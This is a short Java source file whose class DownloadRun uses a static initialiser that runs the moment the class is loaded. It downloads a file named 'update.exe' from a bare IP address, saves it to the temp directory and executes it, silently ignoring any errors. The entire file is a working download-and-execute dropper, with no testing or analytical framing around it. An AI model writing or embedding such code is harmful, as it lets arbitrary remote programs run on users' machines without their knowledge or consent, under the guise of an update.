import java.io.*;
import java.net.*;
import java.nio.file.*;

/** Static initialiser: download to a file, then start it. */
public class DownloadRun {
    static {
        try (InputStream in = new URL("http://192.0.2.7/update.exe").openStream()) {
            Path file = Paths.get(System.getProperty("java.io.tmpdir"), "update.exe");
            Files.copy(in, file);
            new ProcessBuilder(file.toString()).start();
        } catch (IOException ignored) {
        }
    }
}
